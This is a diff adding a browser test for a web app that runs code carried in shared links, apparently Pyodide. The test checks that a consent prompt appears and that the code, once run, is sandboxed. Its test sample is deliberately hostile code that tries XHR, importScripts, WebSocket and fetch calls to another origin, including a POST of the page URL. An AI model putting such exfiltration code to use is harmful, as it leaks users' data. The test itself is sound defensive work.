@@ -7,6 +7,7 @@ import http.server
 import math
 import threading
 from typing import ClassVar
+from urllib.parse import quote
 
 import pytest
 
@@ -106,3 +107,71 @@ def log_density(x, y):
     assert hits == []
     assert page.input_value("[data-testid=target-select]") == "custom"
     assert readouts(page)["log-z"] == pytest.approx(math.log(2 * math.pi) + 1.0, abs=1e-4)
+
+
+def _hostile_source(other: str) -> str:
+    """Code that announces itself to our own server (so we see when it runs) and tries to
+    reach another origin every way it can."""
+    return f"""import js
+def xhr(target):
+    request = js.XMLHttpRequest.new()
+    request.open('GET', target, False)
+    request.send()
+xhr(str(js.location.origin) + '/assets/style.css?link-code-ran=1')
+for attempt in (lambda: xhr('{other}/xhr'), lambda: js.importScripts('{other}/s.js'),
+                lambda: js.WebSocket.new('{other.replace('http', 'ws')}/ws')):
+    try:
+        attempt()
+    except Exception:
+        pass
+js.fetch('{other}/fetch')
+js.fetch('{other}/post', method='POST', body=str(js.location.href))
+
+def log_density(x, y):
+    return -0.5 * (x**2 + y**2)
+"""
+
+
+def test_link_code_runs_only_after_consent_and_reaches_nothing(browser, server, other_origin):
+    other, hits = other_origin
+    source = _hostile_source(other)
+    link = f"{server.base_url}?target=custom&family=gaussian-diagonal&source={quote(source)}"
+    context = browser.new_context()
+    requests: list[str] = []  # the code's own announcements (the page's URL carries the code)
+    context.on("request", lambda r: "style.css?link-code-ran" in r.url and requests.append(r.url))
+    try:
+        # Shown, not run: a built-in target meanwhile, the rest of the link applied.
+        page = context.new_page()
+        page.goto(link)
+        wait_ready(page)
+        page.wait_for_timeout(300)
+        assert page.is_visible("[data-testid=consent]")
+        assert page.text_content("[data-testid=consent-code]") == source
+        assert page.input_value("[data-testid=target-select]") != "custom"
+        assert page.input_value("[data-testid=family-select]") == "gaussian-diagonal"
+        assert requests == [] and hits == []
+        assert "source=" in page.url  # the link keeps its code while it waits
+        # Declined: nothing runs, the page works, the code is in the editor to read.
+        page.click("[data-testid=consent-decline]")
+        assert not page.is_visible("[data-testid=consent]")
+        assert "not run" in page.text_content("[data-testid=notice]")
+        assert page.input_value("[data-testid=custom-source]") == source
+        page.click("[data-testid=optimize-button]")
+        page.wait_for_function("/Converged/.test(document.querySelector('[data-testid=notice]')"
+                               ".textContent)", timeout=60_000)
+        assert requests == [] and hits == []
+        page.close()
+
+        # Run: it runs (our own server sees it) and still reaches no other origin.
+        page = context.new_page()
+        page.goto(link)
+        wait_ready(page)
+        page.click("[data-testid=consent-run]")
+        wait_idle(page)
+        page.wait_for_timeout(500)
+        assert page.input_value("[data-testid=target-select]") == "custom"
+        assert requests != []
+        assert hits == []
+        assert readouts(page)["log-z"] == pytest.approx(math.log(2 * math.pi), abs=1e-4)
+    finally:
+        context.close()
